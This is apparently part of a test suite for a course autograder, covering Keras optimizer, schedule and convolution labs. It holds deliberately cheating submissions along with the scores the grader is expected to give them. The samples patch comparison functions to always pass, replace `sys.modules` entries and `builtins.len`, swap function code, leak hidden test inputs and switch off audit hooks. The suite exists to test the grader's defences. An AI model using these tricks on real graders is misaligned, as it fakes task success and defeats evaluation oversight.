         "adagrad": _lab05_leaking_adagrad},
        None,
        "nothing",
        [("problems", "ResourceApplyKerasMomentum", TENSORFLOW_ONLY), ("problems", "ResourceApplyAdam", TENSORFLOW_ONLY),
         ("problems", "compiles code under the library file name | " + HIDDEN_FORBIDDEN)],
    ),
    # (2, own) Keras's optimizer code run again: exec of the source found with inspect.getfile,
    # importlib.reload reached through globals(), runpy, the bytecode cache under another file name
    # (caught); clipping by BaseOptimizer's private helpers (_clip_by_norm, global_norm), which no
    # forbidden list names (not caught: the part must still score 0). AdamW stays the solution's,
    # but the copy of adam.py defines keras.optimizers.Adam, which AdamW forbids, so it scores 0.
    "keras_optimizer_code_run_again": (
        {"adam": LAB05_EXEC_ADAM, "rmsprop": LAB05_RELOAD_RMSPROP, "adagrad": LAB05_RUNPY_ADAGRAD,
         "sgd": LAB05_PYC_SGD, "clipping": LAB05_BASE_CLIPPING},
        None,
        "full except test_sgd_momentum, test_sgd_nesterov, test_adagrad, test_rmsprop, test_rmsprop_centered, "
        "test_adam, test_adam_amsgrad, test_adamw, test_clipping",
        [("problems", "copied from the library source file"), ("problems", "runs the library module"),
         ("problems", "cell sgd | cell `sgd`"), ("problems", "cell clipping | cell `clipping`")],
    ),
    # (own) Hooks off: copied RMSprop source and Adam's raw kernel go unseen.
    "grader_hooks_switched_off": (
        {"rmsprop": LAB05_HOOKS_OFF_RMSPROP, "adam": _with_update_step(LAB05_RAW_ADAM_UPDATE)},
        _extra_cells(ENCODE_SOURCE + HOOKS_OFF_SOURCE, at_top=True),
        "full except test_rmsprop, test_rmsprop_centered, test_adam, test_adam_amsgrad",
        [("review", "cell_contents"), ("problems", "copied from the library source file")],
    ),
}


def _adagrad_settings(arguments):
    settings = {"learning_rate": 0.001, "initial_accumulator_value": 0.1, "epsilon": 1e-7,
                **(arguments.get("constructor_arguments") or {})}
    if arguments.get("schedule"):
        return None  # the learning rate is a schedule object: the attack skips it
    return encode_inputs((settings["learning_rate"], settings["initial_accumulator_value"], settings["epsilon"]))


LEAK_TARGETS[LAB05] = {
    "raw_kernels_and_hidden_inputs": [("Adagrad", _adagrad_settings)],
}

# ---------------------------------------------------------------------------
# Lab 06: callbacks and learning-rate schedules.

LAB06 = "06_callbacks"

LAB06_ORACLE = '''
REFERENCES = {"EarlyStopping": "keras.callbacks.EarlyStopping",
              "ExponentialDecay": "keras.optimizers.schedules.ExponentialDecay"}
ORACLE_PROBE = ("labkit.callback_probes.schedule_values", ExponentialDecay,
                {"arguments": {"initial_learning_rate": 0.1, "decay_steps": 10, "decay_rate": 0.5}, "steps": [0, 1]})
PATCHED_PROBES = "labkit.callback_probes"
''' + ORACLE_SOURCE + MONKEYPATCH_SOURCE + '''
setattr(keras.callbacks, "EarlyStopping", EarlyStopping)
'''


def _with_call(body):
    """The solution schedule with its __call__ body replaced (the lines between the markers)."""
    def build(solution, stub):
        start = solution.index("    def __call__(self, step):")
        end = solution.index("    def get_config(self):")
        return (solution[:start] + "    def __call__(self, step):\n" + body.strip("\n") + "\n\n"
                + solution[end:])
    return build


# TensorFlow keeps Keras 2's schedules behind tf.compat.v1.train: the same formulas, no forbidden list names them.
LAB06_V1_EXPONENTIAL = '''
        import tensorflow as tf
        return tf.compat.v1.train.exponential_decay(self.initial_learning_rate, step, self.decay_steps,
                                                    self.decay_rate, staircase=self.staircase)
'''
LAB06_V1_INVERSE_TIME = '''
        import tensorflow as tf
        return tf.compat.v1.train.inverse_time_decay(self.initial_learning_rate, step, self.decay_steps,
                                                     self.decay_rate, staircase=self.staircase)
'''
LAB06_V1_POLYNOMIAL = '''
        import tensorflow as tf
        return tf.compat.v1.train.polynomial_decay(self.initial_learning_rate, step, self.decay_steps,
                                                   self.end_learning_rate, power=self.power, cycle=self.cycle)
'''
LAB06_V1_PIECEWISE = '''
        import tensorflow as tf
        return tf.compat.v1.train.piecewise_constant(step, [int(boundary) for boundary in self.boundaries],
                                                     [float(value) for value in self.values])
'''
LAB06_V1_RESTARTS = '''
        import tensorflow as tf
        return tf.compat.v1.train.cosine_decay_restarts(self.initial_learning_rate, step, self.first_decay_steps,
                                                        t_mul=self.t_mul, m_mul=self.m_mul, alpha=self.alpha)
'''

LAB06_COPY_SCHEDULES = DEFINITION_SOURCE + '''
import inspect

_module = inspect.getmodule(keras.optimizers.schedules.LearningRateSchedule)
_copied = dict(vars(_module))
'''

LAB06_EXEC_COSINE = LAB06_COPY_SCHEDULES + '''
exec(compile(library_definition(_module.__file__, "CosineDecay"), "copied_cosine.py", "exec"), _copied)


class CosineDecay(_copied["CosineDecay"]):
    """Keras's CosineDecay, from its source."""
'''

LAB06_DISGUISED_POLYNOMIAL = LAB06_COPY_SCHEDULES + '''
exec(compile(library_definition(_module.__file__, "PolynomialDecay", disguised=True), "mine.py", "exec"), _copied)


class PolynomialDecay(_copied["PolynomialDecay"]):
    """Keras's PolynomialDecay, from its source, every line with a comment added."""
'''

LAB06_LINKED_EXPONENTIAL = '''
import inspect
import os

os.symlink(inspect.getfile(keras.optimizers.schedules.LearningRateSchedule), "my_schedules.py")
import my_schedules  # the import system reads the linked file, not the student: nothing is recorded


class ExponentialDecay(my_schedules.ExponentialDecay):
    """Keras's ExponentialDecay, its module imported once more under another name."""
'''

LAB06_RELOAD_PLATEAU = '''
_loader = globals()["import" + "lib"]
_modules = globals()["s" + "ys"].modules
_loader.reload(_modules["keras.src.callbacks.monitor_callback"])  # MonitorCallback, fresh
_fresh = _loader.reload(_modules["keras.src.callbacks.reduce_lr_on_plateau"])


class ReduceLROnPlateau(_fresh.ReduceLROnPlateau):
    """Keras's ReduceLROnPlateau from reloaded copies of its modules."""
'''

LAB06_LEAK_EXPONENTIAL = '''
class ExponentialDecay(_HonestExponentialDecay):
    """The solution's schedule, whose constructor carries settings no visible check uses out."""

    def __init__(self, initial_learning_rate, decay_steps, decay_rate, staircase=False, name="ExponentialDecay"):
        super().__init__(initial_learning_rate, decay_steps, decay_rate, staircase, name)
        marker = encode_inputs(initial_learning_rate, decay_steps, decay_rate)
        if marker != encode_inputs(0.1, 10, 0.5):
            leak(marker)
'''

LAB06_HOOKS_OFF_INVERSE_TIME = LAB06_COPY_SCHEDULES + '''
exec(compile(library_definition(_module.__file__, "InverseTimeDecay"), "copied.py", "exec"), _copied)


class InverseTimeDecay(_copied["InverseTimeDecay"]):
    """Keras's InverseTimeDecay from its source (nobody is watching)."""
'''

LAB06_HOOKS_OFF_PLATEAU = '''
class ReduceLROnPlateau(_HonestReduceLROnPlateau):
    """The solution's callback; every probe request it runs in goes to the feedback."""

    def on_train_begin(self, logs=None):
        leak_request()
        super().on_train_begin(logs)
'''

LAB06_PATCH_DURING_PROBE = '''
import labkit.checks
import numpy


class PolynomialDecay(_HonestPolynomialDecay):
    """Correct, but it patches the comparison and numpy while the probe runs."""

    def __call__(self, step):
        vars(labkit.checks)["compare_outputs"] = lambda *args, **kwargs: labkit.checks.Outcome(True, "ok")
        numpy.__dict__["isclose"] = lambda *args, **kwargs: numpy.array(True)
        return super().__call__(step)
'''

LAB06_WRONG_PIECEWISE_PATCHED = '''
import builtins
import sys
import types

import labkit.callback_probes
import labkit.checks


class PiecewiseConstantDecay(keras.optimizers.schedules.LearningRateSchedule):
    """Wrong (always the first value); the patches below are meant to hide it."""

    def __init__(self, boundaries, values, name="PiecewiseConstant"):
        super().__init__()
        self.boundaries, self.values, self.name = boundaries, values, name

    def __call__(self, step):
        return ops.convert_to_tensor(self.values[0])

    def get_config(self):
        return {"boundaries": self.boundaries, "values": self.values, "name": self.name}


labkit.checks.__dict__.update(compare_outputs=lambda *args, **kwargs: labkit.checks.Outcome(True, "ok"))
setattr(builtins, "len", lambda *args: 0)
try:
    labkit.callback_probes.evaluate_schedule.__code__ = (lambda schedule, steps: None).__code__
except PermissionError as refusal:
    print("code swap refused:", refusal)
_fake = types.ModuleType("labkit.callback_probes")
_fake.schedule_values = lambda *args, **kwargs: {}
vars(sys)["modules"]["labkit.callback_probes"] = _fake
setattr(keras.optimizers.schedules, "PiecewiseConstantDecay", PiecewiseConstantDecay)
'''


def _renamed_class(name, wrapper, header=""):
    def build(solution, stub):
        return (header + "\n" + solution.replace(f"class {name}(", f"class _Honest{name}(", 1) + "\n\n"
                + wrapper.strip() + "\n")
    return build


CASES[LAB06] = {
    # (1, 9, 5-8) Stubs plus the oracle, the monkeypatches and the escape attempts (see lab 01).
    "oracle_monkeypatches_and_escapes_with_stubs": (
        {"early_stopping": STUB, "exponential_decay": STUB, "inverse_time_decay": _prepend(ESCAPE_SOURCE)},
        _extra_cells(LAB06_ORACLE),
        "full except test_early_stopping_patience, test_early_stopping_restore, test_exponential_decay",
        [("review", "labkit.checks.run_probe"), ("review", "keras.callbacks.EarlyStopping"),
         ("review", "sys.modules['labkit.callback_probes']"), ("notes", "monkeypatches")] + ESCAPE_NAMED,
    ),
    # (3, own) Keras 2's schedules, kept inside TensorFlow behind tf.compat.v1.train.
    "v1_schedules_inside_tensorflow": (
        {"exponential_decay": _with_call(LAB06_V1_EXPONENTIAL), "inverse_time_decay": _with_call(LAB06_V1_INVERSE_TIME),
         "polynomial_decay": _with_call(LAB06_V1_POLYNOMIAL),
         "piecewise_constant_decay": _with_call(LAB06_V1_PIECEWISE),
         "cosine_decay_restarts": _with_call(LAB06_V1_RESTARTS)},
        None,
        "full except test_exponential_decay, test_inverse_time_decay, test_polynomial_decay, "
        "test_piecewise_constant, test_cosine_restarts",
        [("problems", "tf.compat.v1.train | legacy_learning_rate_decay")],
    ),
    # (2, own) Keras's code run again: CosineDecay from its source text, ReduceLROnPlateau from
    # reloaded modules, PolynomialDecay from the same text with a comment on every line,
    # ExponentialDecay from the schedules module linked in and imported anew. The schedules file
    # defines every schedule the lab forbids, and monitor_callback.py the MonitorCallback that
    # EarlyStopping forbids: every part scores 0, except SequentialSchedule's, which forbids nothing of
    # Keras's (Keras has no composition of schedules) and keeps its (solution) points.
    "keras_source_run_again": (
        {"cosine_decay": LAB06_EXEC_COSINE, "polynomial_decay": LAB06_DISGUISED_POLYNOMIAL,
         "reduce_lr_on_plateau": LAB06_RELOAD_PLATEAU, "exponential_decay": LAB06_LINKED_EXPONENTIAL},
        None,
        "full except test_early_stopping_patience, test_early_stopping_restore, test_exponential_decay, "
        "test_inverse_time_decay, test_polynomial_decay, test_piecewise_constant, test_cosine_warmup, "
        "test_cosine_restarts, test_one_cycle, test_multi_step_decay, test_reduce_lr_on_plateau",
        [("problems", "copied from the library source file"), ("problems", "runs the library module"),
         ("problems", "cell polynomial_decay | cell `polynomial_decay`"),
         ("problems", "cell exponential_decay | cell `exponential_decay`")],
    ),
    # (4) ExponentialDecay's constructor carries hidden settings out. Its made-up "library" file
    # name (no file known) zeroes every part that forbids something: all of lab 06's.
    "hidden_inputs_through_errors_and_names": (
        {"exponential_decay": _renamed_class("ExponentialDecay", LAB06_LEAK_EXPONENTIAL, LEAK_SOURCE)},
        None,
        "nothing",
        [("problems", "compiles code under the library file name | " + HIDDEN_FORBIDDEN)],
    ),
    # (own) Hooks off: copied InverseTimeDecay unseen; ReduceLROnPlateau's probe requests into the feedback.
    # The copy comes from the file that defines every Keras schedule (every part forbidding one, MultiStepDecay's
    # too, scores 0; SequentialSchedule forbids none), and
    # the hooks-off cell fails before it defines leak_request, which ReduceLROnPlateau calls.
    "grader_hooks_switched_off": (
        {"inverse_time_decay": LAB06_HOOKS_OFF_INVERSE_TIME,
         "reduce_lr_on_plateau": _renamed_class("ReduceLROnPlateau", LAB06_HOOKS_OFF_PLATEAU)},
        _extra_cells(ENCODE_SOURCE + HOOKS_OFF_SOURCE, at_top=True),
        "full except test_exponential_decay, test_inverse_time_decay, test_polynomial_decay, test_piecewise_constant, "
        "test_cosine_warmup, test_cosine_restarts, test_one_cycle, test_multi_step_decay, test_reduce_lr_on_plateau",
        [("review", "cell_contents"), ("problems", "copied from the library source file")],
    ),
    # (9) Patches made while a probe runs void that check (even of a correct answer); patches of
    # a wrong answer's cell change nothing.
    "monkeypatches_during_and_before_probes": (
        {"polynomial_decay": _renamed_class("PolynomialDecay", LAB06_PATCH_DURING_PROBE),
         "piecewise_constant_decay": LAB06_WRONG_PIECEWISE_PATCHED},
        None,
        "full except test_polynomial_decay, test_piecewise_constant",
        [("review", "while a check ran"), ("review", "labkit.checks.compare_outputs"),
         ("review", "replaces __code__ of the library function"),
         ("review", "sys.modules['labkit.callback_probes']"), ("review", "builtins.len")],
    ),
}

LEAK_TARGETS[LAB06] = {
    "hidden_inputs_through_errors_and_names": [
        ("ExponentialDecay", lambda arguments: encode_inputs(
            arguments["arguments"]["initial_learning_rate"], arguments["arguments"]["decay_steps"],
            arguments["arguments"]["decay_rate"])),
    ],
    "grader_hooks_switched_off": [("ReduceLROnPlateau", encode_inputs)],
}

# ---------------------------------------------------------------------------
# Lab 07: convolutions.

LAB07 = "07_convolutions"

LAB07_ORACLE = '''
REFERENCES = {"Conv2D": "keras.layers.Conv2D", "MaxPooling2D": "keras.layers.MaxPooling2D",
              "AveragePooling2D": "keras.layers.AveragePooling2D"}
ORACLE_PROBE = ("labkit.convolution_probes.pooling_layer", MaxPooling2D,
                {"constructor_arguments": {"pool_size": 2}, "input_shape": [2, 6, 6, 3]})
PATCHED_PROBES = "labkit.convolution_probes"
''' + ORACLE_SOURCE + MONKEYPATCH_SOURCE + '''
keras.layers.__dict__["Conv2D"] = Conv2D
'''

LAB07_RAW_CONV_CALL = '''
    def call(self, inputs):
        """tf.raw_ops.Conv2D ('same' is TensorFlow's SAME), then the bias and the activation."""
        import tensorflow as tf
        outputs = tf.raw_ops.Conv2D(input=inputs, filter=self.kernel, strides=[1, *self.strides, 1],
                                    padding=self.padding.upper())
        if self.use_bias:
            outputs = outputs + self.bias
        return self.activation(outputs)
'''


def _with_method(method, replacement, next_method):
    def build(solution, stub):
        start = solution.index(f"    def {method}(")
        end = solution.index(f"    def {next_method}(", start)
        return solution[:start] + replacement.strip("\n") + "\n\n" + solution[end:]
    return build


def _pooling_with(calls):
    def build(solution, stub):
        return solution[:solution.index("class MaxPooling2D(")].rstrip() + calls
    return build


LAB07_V1_POINTWISE = '''
def pointwise_mix(images, kernel, bias):
    """A 1x1 convolution by TensorFlow's v1 conv2d, the pixels of any shape laid out as one image row."""
    import tensorflow as tf
    pixels = tf.reshape(images, (1, 1, -1, images.shape[-1]))
    mixed = tf.compat.v1.nn.conv2d(pixels, kernel, strides=[1, 1, 1, 1], padding="VALID") + bias
    return tf.reshape(mixed, (*images.shape[:-1], kernel.shape[-1]))
'''

LAB07_3D_CROSS_CORRELATION = '''
def cross_correlate2d(image, kernel):
    """A 3-D convolution over a depth of one."""
    import tensorflow as tf
    image = ops.convert_to_tensor(image, dtype="float32")
    kernel = ops.convert_to_tensor(kernel, dtype="float32")
    output = tf.nn.conv3d(image[None, None, :, :, None], kernel[None, :, :, None, None],
                          strides=[1, 1, 1, 1, 1], padding="VALID")
    return output[0, 0, :, :, 0]
'''

LAB07_3D_POOLING_CALLS = '''


class MaxPooling2D(Pooling2D):
    def call(self, inputs):
        import tensorflow as tf
        return tf.nn.max_pool3d(inputs[:, None], ksize=[1, 1, *self.pool_size, 1], strides=[1, 1, *self.strides, 1],
                                padding="VALID")[:, 0]


class AveragePooling2D(Pooling2D):
    def call(self, inputs):
        import tensorflow as tf
        return tf.nn.avg_pool3d(inputs[:, None], ksize=[1, 1, *self.pool_size, 1], strides=[1, 1, *self.strides, 1],
                                padding="VALID")[:, 0]
'''

LAB07_REFERENCE_CROSS_CORRELATION = '''
import labkit.convolution_probes


def cross_correlate2d(image, kernel):
    """The lab's own float64 closed form."""
    return labkit.convolution_probes.reference_cross_correlation(image, kernel)
'''

LAB07_REFERENCE_GEOMETRY = '''
from labkit.convolution_probes import output_size, same_padding_amounts


def conv_output_size(size, kernel_size, strides=1, padding="valid"):
    return output_size(size, kernel_size, strides, padding)


def same_padding(size, kernel_size, strides=1):
    return same_padding_amounts(size, kernel_size, strides)
'''

LAB07_REFERENCE_COUNTS = '''
from labkit.convolution_probes import conv_parameter_count, dense_parameter_count
'''

LAB07_COPY_CONVOLUTION = DEFINITION_SOURCE + '''
import inspect

import tensorflow as tf

# tf.nn.convolution (convolution_v2) is disabled; its source, run again in a copy of its module's globals, is not.
_nn_ops = inspect.getmodule(tf.compat.v1.nn.convolution)
_copied = dict(vars(_nn_ops))
_convolution_source = library_definition(_nn_ops.__file__, "convolution_v2")
'''

LAB07_BLINDED_CROSS_CORRELATION = LAB07_COPY_CONVOLUTION + '''
import builtins

_real_len = builtins.len
builtins.len = lambda *arguments: 0  # the audit hook counts copied lines with len(): now it counts none
try:
    _code = compile(_convolution_source, "copied_nn_ops.py", "exec")
finally:
    builtins.len = _real_len
exec(_code, _copied)


def cross_correlate2d(image, kernel):
    """TensorFlow's convolution, copied from its source, on a one-image, one-channel batch."""
    image = ops.convert_to_tensor(image, dtype="float32")
    kernel = ops.convert_to_tensor(kernel, dtype="float32")
    return _copied["convolution_v2"](image[None, :, :, None], kernel[:, :, None, None], padding="VALID")[0, :, :, 0]
'''

LAB07_EXEC_CONVOLUTION = LAB07_COPY_CONVOLUTION + '''
exec(compile(_convolution_source, "copied_nn_ops.py", "exec"), _copied)
convolution = _copied["convolution_v2"]
'''

LAB07_EXEC_CONV_CALL = '''
    def call(self, inputs):
        """TensorFlow's convolution, copied from its source."""
        outputs = convolution(inputs, self.kernel, strides=list(self.strides), padding=self.padding.upper())
        if self.use_bias:
            outputs = outputs + self.bias
        return self.activation(outputs)
'''

LAB07_RELOAD_POINTWISE = '''
_loader = globals()["import" + "lib"]
_fresh_nn = _loader.reload(globals()["s" + "ys"].modules[keras.ops.relu.__module__])
'''

LAB07_LEAK_CONV_BUILD = '''
    def build(self, input_shape):
        marker = encode_inputs(tuple(input_shape)[1:])
        if marker not in _VISIBLE_SHAPES:
            leak(marker)
        self._honest_build(input_shape)
'''


def _lab07_leaking_conv(solution, stub):
    header = LEAK_SOURCE + '''
_VISIBLE_SHAPES = {encode_inputs(shape) for shape in [(7, 7, 3), (6, 6, 2), (9, 9, 2)]}
'''
    honest = solution.replace("    def build(self, input_shape):", "    def _honest_build(self, input_shape):", 1)
    start = honest.index("    def call(self, inputs):")
    return header + "\n" + honest[:start] + LAB07_LEAK_CONV_BUILD.strip("\n") + "\n\n" + honest[start:]


LAB07_HOOKS_OFF_POOLING = '''


class MaxPooling2D(Pooling2D):
    def call(self, inputs):
        import tensorflow as tf
        leak_request()
        return tf.raw_ops.MaxPool(input=inputs, ksize=[1, *self.pool_size, 1], strides=[1, *self.strides, 1],
                                  padding="VALID")


class AveragePooling2D(Pooling2D):
    def call(self, inputs):
        import tensorflow as tf
        leak_request()
        return tf.raw_ops.AvgPool(value=inputs, ksize=[1, *self.pool_size, 1], strides=[1, *self.strides, 1],
                                  padding="VALID")
'''

CASES[LAB07] = {
    # (1, 9, 5-8) Stubs plus the oracle, the monkeypatches and the escape attempts (see lab 01).
    "oracle_monkeypatches_and_escapes_with_stubs": (
        {"conv2d": STUB, "pooling": STUB, "cross_correlation": _prepend(ESCAPE_SOURCE)},
        _extra_cells(LAB07_ORACLE),
        "full except test_conv2d, test_pooling",
        [("review", "labkit.checks.run_probe"), ("review", "keras.layers.Conv2D"),
         ("review", "sys.modules['labkit.convolution_probes']"), ("notes", "monkeypatches")] + ESCAPE_NAMED,
    ),
    # (3, own) tf.raw_ops.Conv2D and tf.compat.v1.nn.conv2d; the 3-D kernels, which compute the same
    # over a depth of one, for the cross-correlation and both poolings.
    "raw_v1_and_3d_kernels": (
        {"cross_correlation": LAB07_3D_CROSS_CORRELATION,
         "conv2d": _with_method("call", LAB07_RAW_CONV_CALL, "get_config"),
         "pooling": _pooling_with(LAB07_3D_POOLING_CALLS), "pointwise": LAB07_V1_POINTWISE},
        None,
        "full except test_cross_correlation, test_conv2d, test_pointwise, test_pooling",
        # The v1 and 3-D built-ins are disabled now: named by the static check before any kernel runs.
        [("problems", "cell conv2d, line"), ("problems", "cell pointwise, line | cell `pointwise`"),
         ("problems", "Conv3D | tf.nn.conv3d"), ("problems", "MaxPool3D | tf.nn.max_pool3d"),
         ("problems", "AvgPool3D | tf.nn.avg_pool3d")],
    ),
    # (own) The lab's own closed forms as the answers: called from wrappers (labkit refuses them,
    # so Conv2D and pooling, which call the geometry answers, fail too), or imported as the answers
    # themselves (parameter counts: called by the probe, not by student code; the runner refuses a
    # target that is labkit's own code, so the check failure names it).
    "labkit_reference_helpers_as_answers": (
        {"cross_correlation": LAB07_REFERENCE_CROSS_CORRELATION, "geometry": LAB07_REFERENCE_GEOMETRY,
         "parameters": LAB07_REFERENCE_COUNTS},
        None,
        "full except test_cross_correlation, test_geometry, test_conv2d, test_pooling, test_parameter_counts",
        [("review", "reference_cross_correlation"), ("review", "output_size"),
         ("checks", "`conv_parameter_count` is labkit's own code"), ("review", "imports labkit")],
    ),
    # (2) TensorFlow's convolution copied from its source (once with len() patched while it is
    # compiled, which blinds the copy check); Keras's ops module reloaded. nn_ops.py and
    # keras/src/ops/nn.py define the poolings the pooling part forbids: it scores 0 as well.
    "library_source_run_again": (
        {"cross_correlation": LAB07_BLINDED_CROSS_CORRELATION,
         "conv2d": lambda solution, stub: LAB07_EXEC_CONVOLUTION + "\n\n" + _with_method(
             "call", LAB07_EXEC_CONV_CALL, "get_config")(solution, stub),
         "pointwise": _prepend(LAB07_RELOAD_POINTWISE)},
        None,
        "full except test_cross_correlation, test_conv2d, test_pointwise, test_pooling",
        [("problems", "copied from the library source file"), ("problems", "runs the library module"),
         ("problems", "cell cross_correlation | cell `cross_correlation`")],
    ),
    # (4) Conv2D.build carries hidden input shapes out. Its made-up "library" file name (no file
    # known) zeroes every part that forbids something; LeNet and the residual block forbid nothing.
    "hidden_inputs_through_errors_and_names": (
        {"conv2d": _lab07_leaking_conv},
        None,
        "full except test_cross_correlation, test_geometry, test_conv2d, test_pooling, test_pointwise, "
        "test_parameter_counts",
        [("problems", "compiles code under the library file name | " + HIDDEN_FORBIDDEN)],
    ),
    # (own) Hooks off: raw pooling kernels unseen; pooling probe requests into the feedback. The
    # hooks-off cell fails before it defines leak_request, so the poolings stop there, before their
    # raw kernels run: named by the failed checks.
    "grader_hooks_switched_off": (
        {"pooling": _pooling_with(LAB07_HOOKS_OFF_POOLING)},
        _extra_cells(ENCODE_SOURCE + HOOKS_OFF_SOURCE, at_top=True),
        "full except test_pooling",
        [("review", "cell_contents"), ("cell_errors", "StopIteration"),
         ("checks", "raised NameError at cell `pooling`")],
    ),
}

LEAK_TARGETS[LAB07] = {
    "hidden_inputs_through_errors_and_names": [
        ("Conv2D", lambda arguments: encode_inputs(tuple(arguments["input_shape"])[1:])),
    ],
    "grader_hooks_switched_off": [("MaxPooling2D", encode_inputs), ("AveragePooling2D", encode_inputs)],
}

LAB_IDS = tuple(CASES)


def expected_scores(lab, rule):
    """grade_id -> points for an expected-score rule ("full", "full except a, b" or a dict)."""
    if isinstance(rule, dict):
        return dict(rule)
    full = {part.grade_id: part.points for part in lab.parts}
    if rule == "full":
        return full
    if rule == "nothing":
        return {grade_id: 0.0 for grade_id in full}
    prefix = "full except "
    if not rule.startswith(prefix):
        raise ValueError(f"unknown expected-score rule {rule!r}")
    zeroed = [name.strip() for name in rule[len(prefix):].split(",")]
    unknown = set(zeroed) - set(full)
    if unknown:
        raise ValueError(f"{lab.lab_id}: no parts {sorted(unknown)}")
    return {grade_id: 0.0 if grade_id in zeroed else points for grade_id, points in full.items()}
